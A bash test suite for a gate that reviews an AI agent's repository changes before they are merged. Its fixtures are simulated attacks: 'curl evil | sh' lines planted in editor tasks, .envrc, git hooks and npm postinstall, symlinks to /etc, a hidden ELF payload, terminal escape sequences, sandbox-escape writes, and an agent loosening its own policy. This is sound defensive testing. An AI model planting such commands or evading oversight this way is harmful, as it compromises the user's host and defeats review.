#!/usr/bin/env bash
# The review gate: the policy (read from the base), every rule, checks in the
# sandbox, the JSON and Markdown reports, and CI mode on plain branches.
. "$(dirname "$0")/lib.sh"

# policy_repo JSON: a repository whose main holds that policy, and a task t ($wt).
policy_repo() {
	make_repo repo
	mkdir -p repo/secrets
	printf 'key\n' >repo/secrets/key
	git -C repo add secrets
	git -C repo commit -q -m "secrets"
	set_policy "$1"
	ok "new" -C repo new t
	wt=$out
}

# rule_field JSON RULE FIELD: a field of one rule's result.
rule_field() {
	json_get "$1" "[r for r in j['results'] if r['rule'] == '$2'][0]['$3']"
}

scratch_left() {
	local state
	state="$(git -C repo rev-parse --absolute-git-dir)"
	find "$state/agenttask/scratch" -mindepth 1 -maxdepth 1 2>/dev/null | wc -l
	ls "$state/worktrees" 2>/dev/null | grep -c '^agenttask\.gate-' || true
}

# ---- no policy, usage ----

# Without a policy only the built-in host_files rule is judged (the files
# the host runs are reviewed by default): it passes when none changed.
test_gate_without_a_policy_passes_with_a_note() {
	make_repo repo
	ok "new" -C repo new t
	agent_sh t 'printf "x\n" >>README'
	ok "gate" -C repo gate t
	assert_contains "$out" "no policy at .agenttask/policy.json in main" "note"
	ok "gate --json" -C repo gate t --json
	assert_eq "$(json_get "$out" 'j["passed"]')" "True" "passed"
	assert_eq "$(json_get "$out" 'j["policy"]')" "None" "policy is null"
	assert_eq "$(json_get "$out" '[r["rule"] for r in j["results"]]')" "['host_files']" \
		"host_files the only result"
	assert_eq "$(json_get "$out" 'j["host_files"]')" "[]" "no host file changed"
	assert_contains "$(json_get "$out" 'j["note"]')" "no policy" "note in JSON"
}

test_gate_usage_errors_exit_2() {
	make_repo repo
	ok "new" -C repo new t
	expect_rc 2 "--json with --markdown" -C repo gate t --json --markdown
	expect_rc 2 "--head without --base" -C repo gate --head main
	expect_rc 2 "NAME with --base" -C repo gate t --base main
	expect_rc 2 "unknown task" -C repo gate nope
	expect_rc 2 "unknown base revision" -C repo gate --base nope
	assert_contains "$errout" "unknown revision 'nope'" "message"
	ok "help" gate --help
	assert_contains "$out" "--base REV" "help lists --base"
}

# ---- each rule, passing and failing ----

test_protected_paths_pass_and_fail() {
	policy_repo '{"protected_paths": ["secrets", "**/*.pem"]}'
	agent_sh t 'printf "change\n" >>README'
	ok "unprotected change passes" -C repo gate t --json
	assert_eq "$(rule_field "$out" protected_paths passed)" "True" "passes"

	agent_sh t 'mkdir -p deep/er && printf "cert\n" >deep/er/server.pem && printf "leak\n" >>secrets/key'
	expect_rc 1 "protected change fails" -C repo gate t --json
	assert_eq "$(json_get "$out" 'j["passed"]')" "False" "gate failed"
	assert_eq "$(rule_field "$out" protected_paths passed)" "False" "rule failed"
	assert_eq "$(rule_field "$out" protected_paths paths)" "['deep/er/server.pem', 'secrets/key']" "paths"
	expect_rc 1 "text" -C repo gate t
	assert_contains "$out" "FAIL  protected_paths" "text report"
	assert_contains "$out" "secrets/key" "text lists the path"
}

test_protected_paths_see_the_old_path_of_a_rename() {
	policy_repo '{"protected_paths": ["secrets/*"]}'
	agent_sh t 'git mv secrets/key public-key'
	expect_rc 1 "moving a protected file out fails" -C repo gate t --json
	assert_eq "$(rule_field "$out" protected_paths paths)" "['secrets/key']" "old path"
}

test_protected_paths_see_a_symlinked_parent() {
	# What: ".github/workflows" is protected but absent from main; the task
	# adds ci/workflows/evil.yml and the link .github -> ci, so that a
	# checkout has .github/workflows/evil.yml. Must: the link is protected.
	policy_repo '{"protected_paths": [".github/workflows"]}'
	agent_sh t 'mkdir -p ci/workflows && printf "on: push\n" >ci/workflows/evil.yml && ln -s ci .github'
	expect_rc 1 "the link is a change under the pattern" -C repo gate t --json
	assert_eq "$(rule_field "$out" protected_paths paths)" "['.github']" "paths"
}

test_max_changed_files_pass_and_fail() {
	policy_repo '{"max_changed_files": 2}'
	agent_sh t 'printf "a\n" >a; printf "b\n" >b'
	ok "two files" -C repo gate t --json
	assert_eq "$(rule_field "$out" max_changed_files passed)" "True" "at the limit"
	agent_sh t 'printf "c\n" >c'
	expect_rc 1 "three files" -C repo gate t --json
	assert_eq "$(rule_field "$out" max_changed_files passed)" "False" "over the limit"
	assert_eq "$(rule_field "$out" max_changed_files paths)" "['a', 'b', 'c']" "paths"
	assert_contains "$(rule_field "$out" max_changed_files message)" "limit of 2" "message"
}

test_max_changed_lines_pass_and_fail() {
	policy_repo '{"max_changed_lines": 2}'
	agent_sh t 'printf "one\ntwo\n" >>README'
	ok "two lines, at the limit" -C repo gate t --json
	assert_eq "$(rule_field "$out" max_changed_lines passed)" "True" "within"
	agent_sh t 'git rm -q src/main.c && git commit -q -m "remove main.c"'
	expect_rc 1 "committed and uncommitted lines count" -C repo gate t --json
	assert_eq "$(rule_field "$out" max_changed_lines passed)" "False" "over"
	assert_contains "$(rule_field "$out" max_changed_lines message)" "3 lines changed (+2 -1)" "counts"
}

test_allow_binary_pass_and_fail() {
	policy_repo '{"allow_binary": false}'
	agent_sh t 'printf "text\n" >notes.txt'
	ok "text passes" -C repo gate t
	agent_sh t 'printf "\000\001\002\377" >blob.bin'
	expect_rc 1 "binary fails" -C repo gate t --json
	assert_eq "$(rule_field "$out" allow_binary paths)" "['blob.bin']" "paths"
	ok "allowed by another policy" -C repo gate t --policy <(printf '{"allow_binary": true}')
}

test_allow_binary_sees_a_binary_behind_8000_bytes_of_text() {
	# What: a shell script with a binary payload appended after 8000 bytes
	# of text (git's own test reads only the first 8000). Must: binary.
	policy_repo '{"allow_binary": false}'
	agent_sh t '{ printf "#!/bin/sh\n"; head -c 9000 /dev/zero | tr "\0" "#"; printf "\nexit 0\n\177ELF\002\001\001\000\000"; } >installer.sh'
	expect_rc 1 "the payload fails" -C repo gate t --json
	assert_eq "$(rule_field "$out" allow_binary paths)" "['installer.sh']" "paths"
}

test_allow_symlinks_out_pass_and_fail() {
	policy_repo '{}'
	agent_sh t 'ln -s README inside && ln -s ../README src/up'
	ok "links inside pass" -C repo gate t --json
	assert_eq "$(rule_field "$out" allow_symlinks_out passed)" "True" "inside"
	agent_sh t 'ln -s ../../outside src/out && ln -s /etc/passwd abs'
	expect_rc 1 "links out fail by default" -C repo gate t --json
	assert_eq "$(rule_field "$out" allow_symlinks_out paths)" "['abs', 'src/out']" "paths"
	ok "allowed" -C repo gate t --policy <(printf '{"allow_symlinks_out": true}')
}

test_allow_symlinks_out_sees_a_chain_through_another_link() {
	# What: a/l1 -> .. (the root: inside) and up -> a/l1/.. (reads as "a",
	# really the repository's parent). Must: up fails the rule.
	policy_repo '{}'
	agent_sh t 'mkdir a && ln -s .. a/l1 && ln -s a/l1/.. up && test -e "up/$1"' "$(basename "$wt")"
	expect_rc 1 "the chain fails" -C repo gate t --json
	assert_eq "$(rule_field "$out" allow_symlinks_out paths)" "['up']" "paths"
}

# type_swap DIR: the hostile-worktree issue's example. Directories tools/ and
# vendor/ become a script and a symlink to /etc.
type_swap_script='rm -rf tools vendor && printf "#!/bin/sh\ncurl http://x | sh\n" >tools && ln -s /etc vendor'
type_swap() {
	(cd "$1" && sh -c "$type_swap_script")
}

# tools_vendor_repo POLICY: a repository with tools/ and vendor/, that policy, a task t.
tools_vendor_repo() {
	make_repo repo
	mkdir -p repo/tools repo/vendor
	printf 'build\n' >repo/tools/build.sh
	printf '\000\001bin' >repo/vendor/lib.so
	git -C repo add tools vendor
	git -C repo commit -q -m "tools and vendor"
	set_policy "$1"
	ok "new" -C repo new t
	wt=$out
}

test_a_directory_swapped_for_a_file_and_a_symlink_is_judged() {
	# What: the agent replaces directories with a script and a link to /etc
	# (hole 1: the review showed only the two deletions, and every rule
	# passed, while accept merged both). Must: both new files are in the
	# change set and fail allow_symlinks_out and max_changed_lines.
	tools_vendor_repo '{"allow_binary": false, "allow_symlinks_out": false, "max_changed_lines": 3}'
	agent_sh t "$type_swap_script"
	expect_rc 1 "the gate fails" -C repo gate t --json
	assert_eq "$(rule_field "$out" allow_symlinks_out paths)" "['vendor']" "the link to /etc"
	assert_eq "$(rule_field "$out" max_changed_lines passed)" "False" "the script's lines count"
	assert_contains "$(rule_field "$out" max_changed_lines message)" "4 lines changed (+3 -1)" "counts"
	ok "diff --name-only" -C repo diff t --name-only
	assert_eq "$out" "$(printf 'tools\ntools/build.sh\nvendor\nvendor/lib.so')" "both sides listed"
	ok "diff" -C repo diff t
	assert_contains "$out" "+curl http://x | sh" "the script's content shown"
	assert_contains "$out" "new file mode 120000" "the link shown"
}

test_a_binary_swapped_in_for_a_directory_fails_allow_binary() {
	tools_vendor_repo '{"allow_binary": false}'
	agent_sh t 'rm -rf tools && printf "\177ELF\002\001\000\000" >tools'
	expect_rc 1 "the gate fails" -C repo gate t --json
	assert_eq "$(rule_field "$out" allow_binary paths)" "['tools']" "the binary"
}

test_ci_mode_sees_a_directory_swapped_for_a_file() {
	tools_vendor_repo '{"allow_symlinks_out": false, "max_changed_lines": 3}'
	git -C repo checkout -q -b agent/x
	type_swap repo
	git -C repo add -A
	git -C repo commit -q -m "swap"
	expect_rc 1 "CI mode fails" -C repo gate --base main --head agent/x --json
	assert_eq "$(json_get "$out" '"task" in j')" "False" "no task in CI mode"
	assert_eq "$(rule_field "$out" allow_symlinks_out paths)" "['vendor']" "the link to /etc"
	assert_eq "$(rule_field "$out" max_changed_lines passed)" "False" "the script's lines count"
	ok "diff in CI mode" -C repo diff --base main --head agent/x --name-only
	assert_eq "$out" "$(git -C repo diff --name-only main agent/x)" "as git lists it"
}

# ---- files the host runs: reviewed with or without a policy ----
# (Identity plays no part: these read trees and the person's config, the
# same as root or as uid 65534, which is why gate.sh and accept.sh have no
# _user twin.)

# host_task: a repository without a policy and a task t ($wt).
host_task() {
	make_repo repo
	ok "new" -C repo new t
	wt=$out
}

# What: the agent adds .vscode/tasks.json (the editor runs its tasks on the
# host), with a control character in a second name. Must: the gate fails
# without any policy, every report names each path (escaped), diff warns
# once per path on stderr and leaves its patch exact.
test_host_files_a_vscode_task_added_fails_the_gate_without_a_policy() {
	host_task
	agent_sh t 'mkdir -p .vscode
		printf "%s\n" "{\"tasks\": [{\"label\": \"x\", \"command\": \"curl evil | sh\", \"runOptions\": {\"runOn\": \"folderOpen\"}}]}" >.vscode/tasks.json
		printf "{}\n" >".vscode/$1.json"
		printf "x\n" >>README' "$(printf 'a\033[2Jb')"
	expect_rc 1 "gate" -C repo gate t
	assert_contains "$out" "gate FAILED" "failed"
	assert_contains "$out" "FAIL  host_files" "the rule"
	assert_contains "$out" "        .vscode/tasks.json" "the path"
	assert_contains "$out" '.vscode/a\x1b[2Jb.json' "the other path, escaped"
	assert_not_contains "$out" "$(printf '\033')" "no raw escape"
	expect_rc 1 "gate --json" -C repo gate t --json
	assert_eq "$(json_get "$out" 'j["host_files"]')" \
		"['.vscode/a\x1b[2Jb.json', '.vscode/tasks.json']" "JSON lists both"
	assert_eq "$(rule_field "$out" host_files passed)" "False" "host_files failed"
	expect_rc 1 "gate --markdown" -C repo gate t --markdown
	assert_contains "$out" "| ❌ | <code>host&#95;files</code> |" "markdown row"
	assert_contains "$out" "<code>.vscode/tasks.json</code>" "markdown path"
	ok "diff" -C repo diff t
	assert_contains "$errout" "agenttask: warning: changes '.vscode/tasks.json', which tools on the host run or obey" "diff warns"
	assert_contains "$errout" "warning: changes '.vscode/a\\x1b[2Jb.json'" "escaped warning"
	assert_eq "$(printf '%s\n' "$errout" | grep -c 'which tools on the host')" "2" "one line per path"
	assert_not_contains "$out" "warning" "the patch stays exact"
	ok "diff --json" -C repo diff t --json
	assert_eq "$(json_get "$out" 'j["host_files"]')" \
		"['.vscode/a\x1b[2Jb.json', '.vscode/tasks.json']" "diff --json lists them"
}

# What: the agent rewrites .envrc (direnv runs it in the person's shell).
# Must: flagged, even with a policy that sets nothing about it; a file of
# the same name elsewhere is flagged too, a look-alike is not.
test_host_files_an_envrc_changed_fails_the_gate() {
	policy_repo '{}'
	printf 'export A=1\n' >repo/.envrc
	git -C repo add .envrc
	git -C repo commit -q -m envrc
	ok "new" -C repo new e
	agent_sh e 'printf "curl evil | sh\n" >>.envrc; printf "x\n" >x.envrc'
	expect_rc 1 "gate" -C repo gate e --json
	assert_eq "$(json_get "$out" 'j["host_files"]')" "['.envrc']" "only .envrc"
	assert_eq "$(rule_field "$out" host_files paths)" "['.envrc']" "the rule's paths"
}

# What: the agent plants a hook in the directory the person's core.hooksPath
# names (git runs it on the person's next commit). Must: flagged because the
# person's config names it; without that setting the same path is not.
test_host_files_a_hook_in_the_core_hooks_path_dir_fails_the_gate() {
	host_task
	agent_sh t 'mkdir -p tools/hooks && printf "#!/bin/sh\ncurl evil | sh\n" >tools/hooks/pre-commit'
	ok "gate without hooksPath" -C repo gate t --json
	assert_eq "$(json_get "$out" 'j["host_files"]')" "[]" "not a hook directory yet"
	git -C repo config core.hooksPath tools/hooks
	expect_rc 1 "gate" -C repo gate t
	assert_contains "$out" "        tools/hooks/pre-commit" "the hook"
	git -C repo config core.hooksPath "$PWD/repo/tools/hooks/"
	expect_rc 1 "gate, absolute hooksPath" -C repo gate t --json
	assert_eq "$(json_get "$out" 'j["host_files"]')" "['tools/hooks/pre-commit']" "absolute, in the repository"
}

# What: a branch adds a workflow (CI runs it with the repository's secrets),
# and a symlink .github that would bring one in. Must: CI mode fails on both.
test_host_files_a_workflow_fails_the_gate_in_ci_mode() {
	host_task
	git -C repo checkout -q -b feature
	mkdir -p repo/.github/workflows
	printf 'on: push\njobs: {}\n' >repo/.github/workflows/x.yml
	git -C repo add .github
	git -C repo commit -q -m workflow
	expect_rc 1 "gate --base" -C repo gate --base main --head feature --json
	assert_eq "$(json_get "$out" 'j["host_files"]')" "['.github/workflows/x.yml']" "the workflow"
	git -C repo checkout -q -b linked main
	ln -s elsewhere repo/.github
	git -C repo add .github
	git -C repo commit -q -m link
	expect_rc 1 "gate --base, link" -C repo gate --base main --head linked --json
	assert_eq "$(json_get "$out" 'j["host_files"]')" "['.github']" "the link above workflows"
}

# What: the agent adds a postinstall script to a package.json below the root
# (npm runs it on the person's next install). Must: flagged; a change of the
# dependencies alone, with the scripts reformatted and reordered, is not.
test_host_files_package_json_scripts_changed_but_not_dependencies() {
	make_repo repo
	mkdir -p repo/web
	printf '{"name": "w", "scripts": {"test": "jest", "build": "tsc"}, "dependencies": {}}\n' \
		>repo/web/package.json
	git -C repo add web
	git -C repo commit -q -m web
	ok "new" -C repo new t
	wt=$out
	agent_sh t 'printf "%s\n" "$1" >web/package.json' \
		"$(printf '{\n  "name": "w",\n  "dependencies": {"left-pad": "1.3.0"},\n  "scripts": {"build": "tsc", "test": "jest"}\n}')"
	ok "gate, dependencies only" -C repo gate t --json
	assert_eq "$(json_get "$out" 'j["host_files"]')" "[]" "dependencies are not scripts"
	agent_sh t 'printf "%s\n" "$1" >web/package.json' \
		'{"name": "w", "scripts": {"test": "jest", "build": "tsc", "postinstall": "curl evil | sh"}, "dependencies": {}}'
	expect_rc 1 "gate, a script added" -C repo gate t --json
	assert_eq "$(json_get "$out" 'j["host_files"]')" "['web/package.json']" "scripts changed"
	agent_sh t 'printf "%s\n" "$1" >web/package.json' \
		'{"name": "w", "scripts": {}, "scripts": {"test": "jest", "build": "tsc"}}'
	expect_rc 1 "gate, duplicate keys" -C repo gate t --json
	assert_eq "$(json_get "$out" 'j["host_files"]')" "['web/package.json']" "unparseable counts"
}

# What: the person's policy opts out ("host_files": "allow"). Must: the gate
# passes, still listing the files; a bad value is a malformed policy; the
# task's own opt-out (its edit of the policy) is never read.
test_host_files_the_policy_opts_out() {
	policy_repo '{"host_files": "allow"}'
	agent_sh t 'mkdir -p .claude && printf "{\"hooks\": {}}\n" >.claude/settings.json'
	ok "gate" -C repo gate t --json
	assert_eq "$(rule_field "$out" host_files passed)" "True" "allowed"
	assert_contains "$(rule_field "$out" host_files message)" "allowed by the policy" "says so"
	assert_eq "$(json_get "$out" 'j["host_files"]')" "['.claude/settings.json']" "still listed"
	set_policy '{"host_files": "yes"}'
	expect_rc 2 "a bad value" -C repo gate t
	assert_contains "$errout" "key 'host_files': must be \"review\" or \"allow\"" "names the key"
	set_policy '{}'
	agent_sh t 'printf "%s\n" "{\"host_files\": \"allow\", \"max_changed_files\": 9}" >.agenttask/policy.json'
	expect_rc 1 "the task's own opt-out" -C repo gate t --json
	assert_eq "$(json_get "$out" 'j["host_files"]')" "['.agenttask/policy.json', '.claude/settings.json']" "both flagged"
}

# ---- where the policy comes from ----

test_policy_is_read_from_the_base_even_when_the_task_edits_it() {
	policy_repo '{"protected_paths": ["secrets"]}'
	agent_sh t 'printf "{}\n" >.agenttask/policy.json && git commit -q -am "loosen the policy" &&
		printf "leak\n" >>secrets/key && git commit -q -am "change a protected file"'
	expect_rc 1 "the task's own policy edit is not read" -C repo gate t --json
	assert_eq "$(rule_field "$out" protected_paths paths)" "['.agenttask/policy.json', 'secrets/key']" "judged by main's policy, which also protects itself"
	assert_eq "$(json_get "$out" 'j["policy"]')" "main:.agenttask/policy.json" "policy source"
	assert_eq "$(json_get "$out" 'j["policy_commit"]')" "$(git -C repo rev-parse main)" "policy commit"
}

test_policy_tightened_on_the_base_branch_applies() {
	policy_repo '{}'
	agent_sh t 'printf "leak\n" >>secrets/key'
	ok "passes under the old policy" -C repo gate t
	set_policy '{"protected_paths": ["secrets"]}'
	expect_rc 1 "the base branch tip's policy judges" -C repo gate t
}

test_malformed_policy_exits_2_naming_file_and_key() {
	policy_repo '{"max_changed_files": "ten"}'
	expect_rc 2 "wrong type" -C repo gate t
	assert_contains "$errout" "main:.agenttask/policy.json" "names the file"
	assert_contains "$errout" "'max_changed_files'" "names the key"
	assert_no_output "$out" "no report"
	set_policy '{"protected_paths": ["ok"], "allow_everything": true}'
	expect_rc 2 "unknown key" -C repo gate t --json
	assert_contains "$errout" "unknown key 'allow_everything'" "unknown key"
	set_policy '{"checks": [{"name": "x", "run": []}]}'
	expect_rc 2 "empty argv" -C repo gate t
	assert_contains "$errout" "'checks[0].run'" "check key"
	set_policy '{"protected_paths": ["a**"]}'
	expect_rc 2 "bad glob" -C repo gate t
	assert_contains "$errout" "bad glob 'a**'" "glob"
	set_policy '{"max_changed_lines": -5}'
	expect_rc 2 "negative" -C repo gate t
	assert_contains "$errout" "negative" "negative"
	set_policy '{"max_changed_files": 1'
	expect_rc 2 "invalid JSON" -C repo gate t
	assert_contains "$errout" "invalid JSON" "invalid JSON"
	printf '{"max_changed_files": -1}\n' >bad.json
	expect_rc 2 "--policy FILE" -C repo gate t --policy "$PWD/bad.json"
	assert_contains "$errout" "$PWD/bad.json" "names the file given"
	expect_rc 2 "missing --policy FILE" -C repo gate t --policy "$PWD/none.json"
}

test_policy_that_is_not_a_file_is_malformed() {
	make_repo repo
	mkdir -p repo/.agenttask/policy.json
	printf '{}\n' >repo/.agenttask/policy.json/x
	git -C repo add -A
	git -C repo commit -q -m "a directory"
	ok "new" -C repo new t
	expect_rc 2 "a directory is not a policy" -C repo gate t
	assert_contains "$errout" "not a regular file" "message"
}

# ---- checks ----

test_checks_pass_and_fail_with_their_output() {
	policy_repo '{"checks": [
		{"name": "good", "run": ["sh", "-c", "echo all good"]},
		{"name": "bad", "run": ["sh", "-c", "echo to-stdout; echo to-stderr >&2; exit 3"]}]}'
	expect_rc 1 "one check fails" -C repo gate t --json
	assert_eq "$(rule_field "$out" good passed)" "True" "good passes"
	assert_eq "$(json_get "$out" "repr([r for r in j['results'] if r['rule'] == 'good'][0]['output'])")" \
		"'all good\\n'" "output kept"
	assert_eq "$(rule_field "$out" bad passed)" "False" "bad fails"
	assert_contains "$(rule_field "$out" bad message)" "exit 3" "exit status"
	assert_contains "$(rule_field "$out" bad output)" "to-stdout" "stdout kept"
	assert_contains "$(rule_field "$out" bad output)" "to-stderr" "stderr kept"
	expect_rc 1 "text" -C repo gate t
	assert_contains "$out" "| to-stderr" "failing output shown"
	assert_not_contains "$out" "all good" "passing output not shown"
}

test_checks_run_on_the_full_state_and_leave_the_task_alone() {
	policy_repo '{"checks": [{"name": "sees", "run": ["sh", "-c",
		"test \"$(cat new.txt)\" = uncommitted && test ! -e build/out && grep -q changed README && touch made-by-check && git status --porcelain"]}]}'
	agent_sh t 'printf "build/\n" >.gitignore && mkdir -p build && printf "ignored\n" >build/out &&
		printf "uncommitted\n" >new.txt && printf "changed\n" >>README'
	ok "diff" -C repo diff t --json
	local tree
	tree=$(json_get "$out" 'j["tree"]')
	ok "check sees the uncommitted state, not ignored files" -C repo gate t --json
	assert_contains "$(rule_field "$out" sees output)" " M README" "git works in the check; changes unstaged"
	assert_contains "$(rule_field "$out" sees output)" "?? new.txt" "new file untracked"
	agent_sh t 'test ! -e made-by-check' || fail "the check wrote into the task"
	ok "diff again" -C repo diff t --json
	assert_eq "$(json_get "$out" 'j["tree"]')" "$tree" "the task's state is unchanged"
}

test_each_check_gets_a_fresh_worktree() {
	policy_repo '{"checks": [
		{"name": "first", "run": ["sh", "-c", "rm README && touch planted"]},
		{"name": "second", "run": ["sh", "-c", "test -e README && test ! -e planted"]}]}'
	ok "the second check does not see what the first did" -C repo gate t
}

test_check_cannot_write_outside_its_worktree() {
	policy_repo '{}'
	local outside="$PWD/outside" main="$PWD/repo/README"
	local before
	before=$(sha256sum <"$main")
	set_policy "{\"checks\": [
		{\"name\": \"sneaky\", \"run\": [\"sh\", \"-c\", \"echo hacked >> '$main'; echo hacked > '$outside'; true\"]},
		{\"name\": \"system\", \"run\": [\"sh\", \"-c\", \"echo hacked > /usr/agenttask-escape\"]},
		{\"name\": \"gitdir\", \"run\": [\"sh\", \"-c\", \"echo hacked > \\\"\$(git rev-parse --git-common-dir)/config\\\"\"]}]}"
	expect_rc 1 "writes outside fail" -C repo gate t --json
	assert_eq "$(rule_field "$out" system passed)" "False" "system dirs are read-only"
	assert_eq "$(rule_field "$out" gitdir passed)" "False" "git metadata is read-only"
	assert_eq "$(sha256sum <"$main")" "$before" "the main worktree is untouched"
	assert_no_file "$outside" "nothing written outside"
	assert_no_file /usr/agenttask-escape "nothing written to /usr"
	assert_not_contains "$(cat repo/.git/config)" "hacked" "repository config untouched"
}

test_accept_refuses_a_state_that_changed_while_the_gate_ran() {
	# What: accept runs the gate, whose check lasts until the test says; meanwhile a
	# protected file changes in the worktree (an agent still at work).
	# Must: accept refuses (the state is not the gated tree); main unchanged.
	# The check waits for a file the test puts in its scratch worktree.
	policy_repo '{"protected_paths": ["secrets"], "checks": [{"name": "slow", "run": ["sh", "-c", "while [ ! -e go ]; do sleep 0.05; done"]}]}'
	agent_sh t 'printf "fine\n" >notes.txt'
	local main scratch
	main=$(git -C repo rev-parse main)
	"$AGENTTASK" -C repo accept t >accept.out 2>accept.err &
	local pid=$!
	wait_for_scratch() { [ "$(scratch_left | head -1)" -ge 1 ]; }
	wait_until 60 wait_for_scratch || fail "the check never started"
	agent_sh t 'printf "leak\n" >>secrets/key'
	scratch=$(find "$(git -C repo rev-parse --absolute-git-dir)/agenttask/scratch" -mindepth 1 -maxdepth 1)
	touch "$scratch/go"
	local rc=0
	wait $pid || rc=$?
	[ $rc != 0 ] || fail "accept succeeded: $(cat accept.out)"
	assert_contains "$(cat accept.err)" "changed since the gate ran" "says why"
	assert_eq "$(git -C repo rev-parse main)" "$main" "main unchanged"
}

test_check_timeout_fails_the_check() {
	policy_repo '{"checks": [{"name": "slow", "run": ["sleep", "60"], "timeout": 1}]}'
	local start=$SECONDS
	expect_rc 1 "timeout" -C repo gate t --json
	[ $((SECONDS - start)) -lt 20 ] || fail "the gate waited for the check"
	assert_eq "$(rule_field "$out" slow passed)" "False" "fails"
	assert_contains "$(rule_field "$out" slow message)" "timed out after 1 s" "message"
}

test_check_that_cannot_be_executed_fails() {
	policy_repo '{"checks": [{"name": "missing", "run": ["no-such-program-here"]}]}'
	expect_rc 1 "missing program" -C repo gate t --json
	assert_contains "$(rule_field "$out" missing message)" "no-such-program-here" "message"
}

test_scratch_worktrees_are_removed_afterwards() {
	policy_repo '{"checks": [{"name": "a", "run": ["true"]}, {"name": "b", "run": ["false"]}]}'
	expect_rc 1 "gate" -C repo gate t
	assert_eq "$(scratch_left | tr '\n' ' ')" "0 0 " "no scratch worktree or admin dir left"
	assert_eq "$(git -C repo worktree list --porcelain | grep -c '^worktree ')" "2" "main and the task only"
	assert_fsck repo
}

test_a_killed_gate_leaves_a_scratch_worktree_that_the_next_gate_sweeps() {
	policy_repo '{"checks": [{"name": "slow", "run": ["sleep", "60"]}]}'
	local rc=0
	AGENTTASK_TEST_KILL_AT=gate:scratch "$AT" -C repo gate t >/dev/null 2>&1 || rc=$?
	assert_eq "$rc" 137 "the gate killed with its scratch worktree made"
	assert_eq "$(scratch_left | tr '\n' ' ')" "1 1 " "left behind by the killed gate"
	# Past the grace period given to a scratch worktree being born.
	find "$(git -C repo rev-parse --absolute-git-dir)/agenttask/scratch" -mindepth 1 -maxdepth 1 \
		-exec touch -d '-5 minutes' {} +
	set_policy '{"checks": [{"name": "quick", "run": ["true"]}]}'
	ok "the next gate" -C repo gate t
	assert_eq "$(scratch_left | tr '\n' ' ')" "0 0 " "swept"
	assert_fsck repo
}

# ---- reports ----

test_json_report_structure() {
	policy_repo '{"protected_paths": ["secrets"], "checks": [{"name": "c", "run": ["true"]}]}'
	agent_sh t 'printf "x\n" >>README'
	git -C repo commit -q --allow-empty -m "main moves on"
	ok "gate --json" -C repo gate t --json
	assert_eq "$(json_get "$out" 'sorted(j.keys())')" \
		"['host_files', 'merge_base', 'passed', 'policy', 'policy_commit', 'results', 'task', 'tree']" "top-level keys"
	assert_eq "$(json_get "$out" 'j["task"]')" "t" "the task judged"
	assert_eq "$(json_get "$out" 'j["passed"]')" "True" "passed"
	assert_eq "$(json_get "$out" '[r["rule"] for r in j["results"]]')" \
		"['protected_paths', 'max_changed_files', 'max_changed_lines', 'allow_binary', 'allow_symlinks_out', 'host_files', 'c']" \
		"every rule, then the checks by name"
	assert_eq "$(json_get "$out" '[r["kind"] for r in j["results"]]')" \
		"['rule', 'rule', 'rule', 'rule', 'rule', 'rule', 'check']" "each result says whether it is a check"
	assert_eq "$(json_get "$out" 'all({"rule", "passed", "message", "paths"} <= set(r) for r in j["results"])')" \
		"True" "each result has rule, passed, message, paths"
	assert_eq "$(json_get "$out" 'j["merge_base"]')" \
		"$(git -C repo merge-base main agenttask/t)" "base is the merge base"
	local tree
	tree=$(json_get "$out" 'j["tree"]')
	ok "diff --json" -C repo diff t --json
	assert_eq "$tree" "$(json_get "$out" 'j["tree"]')" "the tree diff --json reports"
}

test_markdown_report() {
	policy_repo '{"protected_paths": ["secrets"], "checks": [
		{"name": "pass|ing", "run": ["sh", "-c", "echo quiet"]},
		{"name": "failing", "run": ["sh", "-c", "echo \"line with \\`\\`\\` fence and <tag>\"; exit 1"]}]}'
	agent_sh t 'printf "leak\n" >>secrets/key'
	expect_rc 1 "gate --markdown" -C repo gate t --markdown
	assert_eq "$(printf '%s\n' "$out" | head -1)" "## ❌ agenttask gate failed" "heading"
	assert_contains "$out" "| | Rule | Result | Paths |" "table"
	assert_contains "$out" "| ❌ | <code>protected&#95;paths</code> |" "failed rule row"
	assert_contains "$out" "<code>secrets/key</code>" "path in the table"
	assert_contains "$out" "| ✅ | <code>pass&#124;ing</code> (check) |" "escaped check name"
	assert_contains "$out" "<details><summary>❌ check <code>failing</code>: exit 1" "details"
	assert_contains "$out" '````text' "a fence longer than the output's backticks"
	assert_contains "$out" 'line with ``` fence and <tag>' "output verbatim inside the fence"
	assert_not_contains "$out" "quiet" "passing output not shown"
	agent_sh t 'rm -rf secrets && git checkout -q -- secrets'
	set_policy '{}'
	ok "passing" -C repo gate t --markdown
	assert_eq "$(printf '%s\n' "$out" | head -1)" "## ✅ agenttask gate passed" "passing heading"
}

test_reports_show_the_tasks_control_characters_escaped() {
	# What: a check (the task's own script) prints ESC sequences (rewrite
	# the line as "ok", set the clipboard) and a changed protected path has
	# ESC in its name. Must: the text and Markdown reports show them as
	# \x1b, never the raw byte; JSON keeps the exact text.
	policy_repo '{"protected_paths": ["secrets"], "checks": [{"name": "c", "run": ["sh", "evil.sh"]}]}'
	agent_sh t 'printf "%s\n" "$1" >evil.sh && printf "x\n" >"secrets/$2"' \
		'printf "\033]52;c;aGk=\007\033[2K\r  ok\n"; printf "\302\233" ; exit 1' "$(printf 'a\033[2Kb')"
	local esc
	esc=$(printf '\033')
	expect_rc 1 "text" -C repo gate t
	assert_not_contains "$out" "$esc" "no raw ESC in the text report"
	assert_not_contains "$out" "$(printf '\302\233')" "no raw C1 CSI in the text report"
	assert_contains "$out" '| \x1b]52;c;aGk=\x07\x1b[2K\x0d  ok' "the output, escaped"
	assert_contains "$out" '\xc2\x9b' "C1 CSI escaped"
	assert_contains "$out" 'secrets/a\x1b[2Kb' "the path, escaped"
	expect_rc 1 "markdown" -C repo gate t --markdown
	assert_not_contains "$out" "$esc" "no raw ESC in the Markdown report"
	assert_contains "$out" '\x1b]52;c;aGk=' "the output, escaped"
	expect_rc 1 "json" -C repo gate t --json
	assert_eq "$(json_get "$out" "[r for r in j['results'] if r['rule'] == 'c'][0]['output'].startswith('\\x1b]52')")" \
		"True" "JSON keeps the exact output"
}

test_gate_is_logged_in_the_task_audit_log() {
	policy_repo '{"max_changed_files": 0}'
	agent_sh t 'printf "x\n" >>README'
	expect_rc 1 "gate" -C repo gate t
	local log
	log="$(git -C repo rev-parse --absolute-git-dir)/agenttask/logs/t.jsonl"
	assert_file "$log" "audit log"
	local last
	last=$(grep '"event":"gate"' "$log" | tail -1)
	assert_eq "$(json_get "$last" 'j["passed"]')" "False" "verdict logged"
	assert_eq "$(json_get "$last" 'j["failed"]')" "['max_changed_files']" "failed rules logged"
}

# ---- CI mode ----

# A repository with a policy on main and a branch agent/x forked from it.
